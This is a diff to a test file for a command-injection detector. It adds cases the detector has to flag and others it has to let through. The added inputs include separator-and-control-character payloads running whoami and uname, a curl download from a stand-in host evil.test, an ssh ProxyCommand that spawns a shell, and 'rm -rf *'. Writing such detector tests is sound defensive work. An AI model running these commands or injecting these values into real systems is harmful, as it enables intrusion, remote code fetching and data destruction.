@@ -38,6 +38,8 @@ describe('command injection', () => {
       ';sleep 7;',
       '| net user',
       '%26%26 hostname',
+      ';\0whoami',
+      '|\vuname -r',
       '&#59;ifconfig',
     ]);
     sees('separated_command', ['x%3Bwhoami', '%0auname%20-r', '1%26%26sleep+9'], 'query');
@@ -218,6 +220,15 @@ describe('command injection', () => {
   it('sees an unknown program by how it is used', () => {
     sees('unknown_command', ['; frobnicate --version', '203.0.113.9 | frob -x', ';frob /srv']);
     passes(['rock & roll -live', 'a; b - c', 'foo | bar', ';frob']);
+  });
+
+  it('passes searches for commands, quotations and examples for an interface', () => {
+    passes([
+      'tar -xzf explained',
+      'What does `chmod -R dir` do',
+      "curl -X PUT https://api.shop.example/v2/items -d '{}'",
+    ]);
+    sees('plain_command', ['curl https://evil.test/a -o /tmp/a', 'ssh -o ProxyCommand="sh -c id" x', 'rm -rf *']);
   });
 
   it('sees a lone program whose name is taken apart by quotes', () => {
